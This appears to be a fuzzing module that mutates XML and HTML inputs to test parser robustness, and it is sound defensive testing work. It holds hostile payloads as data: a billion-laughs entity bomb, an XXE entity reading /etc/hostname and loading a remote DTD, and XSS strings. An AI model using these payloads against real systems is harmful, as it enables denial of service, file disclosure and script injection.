import type { Random } from '../../../src/base/random.ts';
import { type Format, type Mutator, oneOf, onText, putIn, size } from './mutator.ts';

const BOMB = `<!DOCTYPE b [<!ENTITY a "aaaaaaaaaa">${Array.from({ length: 12 }, (_, at) => `<!ENTITY a${at} "${`&a${at === 0 ? '' : at - 1};`.repeat(10)}">`).join('')}]>`;
const EXTERNAL = '<!DOCTYPE x [<!ENTITY ext SYSTEM "file:///etc/hostname"><!ENTITY % p SYSTEM "http://192.0.2.1/x.dtd">%p;]>';
const MARKUP: Format[] = ['xml', 'html'];
const EVIL = [
  '<script>alert("x")</script>',
  '<script>',
  '<!--',
  '-->',
  '<![CDATA[',
  ']]>',
  '<?php',
  '</html>',
  '<img src=x onerror=alert(1)>',
  '&nosuch;',
  '&#x0;',
  '&#xD800;',
  '&#99999999;',
  '<a b="1" b="2">',
];

function tags(text: string): RegExpExecArray[] {
  return [...text.matchAll(/<[^>]*>/g)];
}

/** A text with something put in right before or behind a tag, where content stands. */
function putAtTag(text: string, more: string, random: Random): string {
  const tag = oneOf(tags(text), random);
  const at = tag === undefined ? 0 : tag.index + tag[0].length;
  return text.slice(0, at) + more + text.slice(at);
}

function withProlog(text: string, prolog: string, entity: string, random: Random): string {
  const at = text.startsWith('<?xml') ? text.indexOf('?>') + 2 : 0;
  return text.slice(0, at) + prolog + putAtTag(text.slice(at), entity, random);
}

function spoilTag(name: string, spoil: (tag: string, random: Random) => string, of = MARKUP): Mutator {
  return onText(
    name,
    (text, random) => {
      const tag = oneOf(tags(text), random);
      return tag === undefined ? text : text.slice(0, tag.index) + spoil(tag[0], random) + text.slice(tag.index + tag[0].length);
    },
    of,
  );
}

/** Spoils XML and HTML. */
export const markupMutators: Mutator[] = [
  onText('an entity bomb', (text, random) => withProlog(text, BOMB, '&a11;', random), MARKUP),
  onText('an external entity', (text, random) => withProlog(text, EXTERNAL, '&ext;', random), MARKUP),
  onText(
    'deep elements',
    (text, random) => {
      const depth = size(1000, 100_000, random);
      const name = oneOf(['div', 'x', 'table', 'td', 'b'], random);
      return putAtTag(text, `<${name}>`.repeat(depth) + oneOf(['', `</${name}>`.repeat(depth)], random), random);
    },
    MARKUP,
  ),
  onText('markup put in', (text, random) => putAtTag(text, oneOf(EVIL, random), random), MARKUP),
  onText('markup put anywhere', (text, random) => putIn(text, oneOf(EVIL, random), random), MARKUP),
  spoilTag('a tag less', () => ''),
  spoilTag('a tag twice', (tag) => tag + tag),
  spoilTag('a tag unclosed', (tag) => tag.slice(0, -1)),
  spoilTag('a tag renamed', (tag, random) => tag.replace(/\w+/, oneOf(['x', 'script', 'table', 'template', 'svg', 'textarea'], random))),
  spoilTag(
    'a wide cell',
    (tag, random) =>
      tag.replace(/^<(t[dh])/, `<$1 ${oneOf(['colspan', 'rowspan'], random)}="${oneOf(['99999999', '-1', '0', '1000'], random)}"`),
    ['html'],
  ),
];
